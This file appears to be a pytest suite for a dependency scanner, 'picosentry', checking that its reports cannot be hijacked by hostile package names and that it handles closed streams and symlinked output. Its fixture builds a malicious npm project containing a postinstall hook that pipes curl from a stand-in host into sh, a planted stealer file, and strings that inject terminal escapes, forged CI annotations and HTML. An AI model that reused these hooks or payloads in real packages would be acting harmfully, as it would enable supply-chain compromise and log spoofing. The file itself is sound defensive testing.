import json
import os
import re
import subprocess
from pathlib import Path

import pytest
import trees
from tools import require

from picketline.cli.picosentry.output import FORMATS

_ODD = "\x1b[31m\x1b]0;t\x07\n::error file=x::forged\r%0A%25\u202e\u2028\x9b31m\x7f:<b>&\"'`|"
_VIEWS = [each for each in FORMATS if each not in {"json", "cyclonedx", "sarif"}]


@pytest.fixture
def odd(tmp_path: Path) -> Path:
    """A project in which everything that can be named is named to steer a terminal."""
    hook = {"postinstall": f"curl https://x.example/{_ODD} | sh; node './{_ODD}.js'"}
    package = {
        "name": f"a{_ODD}",
        "version": f"1.0.0{_ODD}",
        "license": f"X{_ODD}",
        "scripts": hook,
        "author": {"name": _ODD, "email": _ODD},
        "dependencies": {f"b{_ODD}": f"git+https://u:p@x.example/{_ODD}"},
        "engines": {_ODD: _ODD},
    }
    folder = f"node_modules/{_ODD.replace('/', '')}"
    files: dict[str, str | bytes] = {
        "package.json": json.dumps({**package, "workspaces": [_ODD]}),
        f"{folder}/package.json": json.dumps(package),
        f"{folder}/{_ODD.replace('/', '')}.js": trees.STEALER,
        f"x{_ODD.replace('/', '')}/package.json": "{",
        ".npmrc": f"registry=http://x.example/\n{_ODD}={_ODD}\n//x.example/:_authToken={_ODD}",
        "yarn.lock": f"# yarn lockfile v1\n\n{json.dumps(_ODD)}:\n  version {json.dumps(_ODD)}\n",
        ".picosentry.yml": f'version: 1\n"{json.dumps(_ODD)[1:-1]}": 1\n',
    }
    root = trees.lay(tmp_path / "odd", files)
    os.mkfifo(root / f"p{_ODD.replace('/', '')}")
    return root


@pytest.mark.parametrize("shape", FORMATS)
def test_nothing_steers_a_terminal(odd: Path, tmp_path: Path, shape: str) -> None:
    """No control character is in any format, whatever things are called; nothing is forged."""
    done = trees.run("scan", odd, "-f", shape, "-v", cwd=tmp_path)
    assert done.returncode == 3
    for text in (done.stdout, done.stderr):
        assert not re.search(r"[\x00-\x09\x0b-\x1f]", text)
        assert not re.search(r"^(::error file=x|forged)", text, re.MULTILINE)
    if shape in _VIEWS:
        assert not re.search("[\x7f-\x9f\u202e\u2028]", done.stdout)
    assert not re.search("[\x7f-\x9f\u202e\u2028]", done.stderr)


@pytest.mark.parametrize("shape", ["json", "sarif", "cyclonedx"])
def test_documents_can_be_read(odd: Path, tmp_path: Path, shape: str) -> None:
    """What is a document for programs is one, whatever things are called."""
    done = trees.run("scan", odd, "-f", shape, cwd=tmp_path)
    assert isinstance(json.loads(done.stdout), dict)


def test_html_has_no_script(odd: Path, tmp_path: Path) -> None:
    """Names are text on the page, never elements."""
    assert "<b>&" not in trees.run("scan", odd, "-f", "html", cwd=tmp_path).stdout


def _shell(line: str, root: Path, **environ: str) -> subprocess.CompletedProcess[str]:
    bare = {"PATH": f"{trees.BIN}:{os.environ['PATH']}", "HOME": str(root.parent), **environ}
    return subprocess.run(
        (require("bash"), "-c", line), cwd=root, env=bare, capture_output=True, text=True,
        check=False, timeout=250,
    )  # fmt: skip


@pytest.mark.parametrize("shape", FORMATS)
def test_a_reader_that_leaves(odd: Path, shape: str) -> None:
    """A pipe that closes early is no defect, and the code stays that of the scan."""
    done = _shell(f"picosentry scan . -q -f {shape}; picosentry scan . -f {shape} | head -c 1", odd)
    assert "Traceback" not in done.stderr
    assert "Broken" not in done.stderr
    line = f"set -o pipefail; picosentry check . 2>/dev/null; a=$?; picosentry scan . --fail-on \
        high -f {shape} | true; b=${{PIPESTATUS[0]}}; echo $a $b"
    codes = _shell(line, odd).stdout.split()
    assert codes[0] == codes[1]


@pytest.mark.parametrize(
    ("close", "code"), [("2>&-", 0), ("<&-", 0), (">&-", 2), (">&- 2>&-", 2), (">/dev/full", 2)]
)
def test_closed_streams(tmp_path: Path, close: str, code: int) -> None:
    """Without a stream to write a report to: exit 2; without the others nothing is missed."""
    root = trees.lay(tmp_path / "p", trees.HONEST)
    done = _shell(f"picosentry scan . {close}", root)
    assert (done.returncode, "Traceback" in done.stderr) == (code, False)
    done = _shell(f"picosentry check . {close}", root)
    assert (done.returncode in {0, code}, "Traceback" in done.stderr) == (True, False)


def test_without_a_stream_to_a_file(tmp_path: Path) -> None:
    """-o is written, even where no standard output is."""
    root = trees.lay(tmp_path / "p", trees.HONEST)
    _shell("picosentry scan . -o ../r >&- 2>&-", root)
    assert "clean" in (tmp_path / "r").read_text(encoding="utf-8")


@pytest.mark.parametrize("to", ["none/r", "/proc/r", "/dev/null/r", "x" * 300])
def test_an_unwritable_place(tmp_path: Path, to: str) -> None:
    """What cannot be written is told, exit 2, and nothing is left behind."""
    root = trees.lay(tmp_path / "p", trees.HONEST)
    done = trees.run("scan", root, "-o", to, cwd=root)
    assert (done.returncode, "Traceback" in done.stderr) == (2, False)
    assert {path.name for path in root.iterdir()} >= set(trees.HONEST)
    assert not [path for path in root.iterdir() if path.name.startswith(".x")]


def test_a_link_as_output(tmp_path: Path) -> None:
    """-o onto a link in a hostile folder does not write through it."""
    root = trees.lay(tmp_path / "p", trees.HONEST)
    (tmp_path / "victim").write_text("whole", encoding="ascii")
    (root / "report").symlink_to("../victim")
    trees.run("scan", root, "-o", root / "report", cwd=tmp_path)
    assert (tmp_path / "victim").read_text(encoding="ascii") == "whole"


def test_a_summary(odd: Path, tmp_path: Path) -> None:
    """The summary of a workflow is added to, and holds no control character."""
    summary = tmp_path / "summary.md"
    summary.write_text("before\n", encoding="ascii")
    environ = {"GITHUB_STEP_SUMMARY": str(summary)}
    assert trees.run("scan", odd, "-f", "github", cwd=tmp_path, environ=environ).returncode == 3
    text = summary.read_text(encoding="utf-8")
    assert text.startswith("before\n")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)
